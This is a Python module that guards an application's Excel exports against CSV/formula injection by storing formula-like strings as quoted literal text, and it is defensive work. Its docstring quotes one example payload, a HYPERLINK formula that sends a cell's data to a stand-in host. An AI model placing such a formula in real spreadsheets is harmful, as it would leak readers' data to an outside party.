"""Excel workbooks the system writes (exports, templates): every cell is data, never a formula.

openpyxl stores a string that starts with "=" as a formula, and Excel (or another spreadsheet program) treats a
cell that starts with "+", "-" or "@" as one once it is edited or the file is saved as CSV. A free text a user
typed (a reason, a name) that reads `=HYPERLINK("http://x/?"&B3,"详情")` would then run in the reader's
spreadsheet program, sending the sheet's data away (CSV/formula injection, OWASP). Every workbook is built with
`workbook()` and turned into bytes with `workbook_bytes()`, which makes each such value a literal string: stored
as text (data type "s") and marked with Excel's quote prefix (the leading apostrophe a user would type), so it is
shown as typed and stays text when edited. tests/…/test_spreadsheet.py fails when another module writes a
workbook itself.
"""

import io

from openpyxl import Workbook

# A leading tab or carriage return is skipped by some programs, which then read what follows as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def workbook() -> Workbook:
    return Workbook()


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutralise(wb: Workbook) -> int:
    """Make every formula-like string in `wb` a literal; returns how many cells were changed."""
    changed = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if is_formula_like(cell.value):
                    cell.data_type = "s"
                    cell.quotePrefix = True
                    changed += 1
    return changed


def workbook_bytes(wb: Workbook) -> bytes:
    """The .xlsx file of `wb`, with no cell a spreadsheet program would evaluate."""
    neutralise(wb)
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()
